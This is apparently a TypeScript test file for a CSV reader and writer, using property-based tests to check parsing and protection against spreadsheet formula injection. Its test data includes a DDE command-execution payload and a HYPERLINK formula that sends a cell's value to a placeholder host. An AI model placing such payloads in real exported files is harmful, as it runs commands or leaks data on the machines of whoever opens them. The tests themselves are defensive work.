import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { CsvReader, readCsv, writeCsv } from './csv.ts'

const cellsOf = (text: string, separator = ','): unknown =>
  readCsv(text, separator).map(({ cells, isBroken }) => (isBroken ? null : cells))

test.each([
  [
    'a,b\r\nc,d',
    [
      ['a', 'b'],
      ['c', 'd'],
    ],
  ],
  [
    'a,b\nc,d\n',
    [
      ['a', 'b'],
      ['c', 'd'],
    ],
  ],
  [
    'a,b\rc,d\r',
    [
      ['a', 'b'],
      ['c', 'd'],
    ],
  ],
  ['a,,', [['a', '', '']]],
  ['\n\na\n\n', [['a']]],
  ['"a,b","c\r\nd","e""f"', [['a,b', 'c\r\nd', 'e"f']]],
  ['""', []],
  ['"",', [['', '']]],
  ['a "b" c,5" tv', [['a "b" c', '5" tv']]],
  ['', []],
])('%j is read as %j', (text, cells) => {
  expect(cellsOf(text)).toEqual(cells)
})

test('a broken line is named, and the next ones are read', () => {
  const text = 'a,1\n"b"x,2\n"c\nd",3\n"e,4\nf,5'
  expect(readCsv(text, ',').map(({ line, isBroken }) => [line, isBroken])).toEqual([
    ...[
      [1, false],
      [2, true],
      [3, false],
      [5, true],
      [6, false],
    ],
  ])
  expect(cellsOf(text)).toEqual([['a', '1'], null, ['c\nd', '3'], null, ['f', '5']])
})

describe('a spreadsheet', () => {
  test.each(['=1+1', '+55 11', '-5', '@ana', '＝1', '\tx', "'=1", '-'])('takes %j for a text', (cell) => {
    const written = writeCsv([[cell, 'x']])
    expect(written.replace(/^"/, '')).toMatch(/^'/)
    expect(cellsOf(written)).toEqual([[cell, 'x']])
  })

  test.each(['Oi;=HYPERLINK("http://a.example/"&A1);', "Oi\n=cmd|'/c calc'!A0;fim", 'Oi;"=1', 'a\t@b'])(
    'finds no formula in %j, wherever it splits',
    (cell) => {
      const written = writeCsv([['x', cell]])
      for (const part of written.split(/[,;\t\r\n]/))
        expect(part.replace(/^"+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
      expect(cellsOf(written)).toEqual([['x', cell]])
    },
  )

  test('an apostrophe that protects nothing stays', () => {
    expect(cellsOf("'a,it's,'")).toEqual([["'a", "it's", "'"]])
  })
})

const cell = fc.oneof(
  fc.string({
    unit: fc.constantFrom('a', 'é', '"', ',', ';', '\t', '\r', '\n', "'", '=', '-', '@', '＋', ' '),
  }),
  fc.string({ unit: 'grapheme' }),
)

test('what is written is read the same', () => {
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 })), (rows) => {
      const written = writeCsv(rows)
      expect(cellsOf(written)).toEqual(rows)
      // However a program splits it, none of its cells is a formula.
      for (const part of written.split(/[,;\t\r\n]/))
        expect(part.replace(/^"+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
    }),
  )
})

test('any text is read, each record at the line on which it begins', () => {
  fc.assert(
    fc.property(cell, fc.constantFrom(',', ';', '\t'), (text, separator) => {
      const lines = text.split(/\r\n|\r|\n/).length
      let last = 0
      for (const { line } of readCsv(text, separator)) {
        expect(line).toBeGreaterThan(last)
        expect(line).toBeLessThanOrEqual(lines)
        last = line
      }
    }),
  )
})

test('however a text is cut into pieces, its records are the same', () => {
  const letters = fc.constantFrom('a', 'é', '"', '"', ',', ',', '\n', '\r', '\r\n', ' ', "'", '=')
  fc.assert(
    fc.property(fc.array(letters, { maxLength: 40 }), fc.array(fc.nat(40), { maxLength: 6 }), (all, cuts) => {
      const text = all.join('')
      const reader = new CsvReader(',')
      const places = [0, ...cuts.map((cut) => Math.min(cut, text.length)).sort((a, b) => a - b), text.length]
      const records = places
        .slice(1)
        .flatMap((to, at) => reader.read(text.slice(places[at], to), at === places.length - 2))
      expect(records).toEqual(readCsv(text, ','))
    }),
  )
})
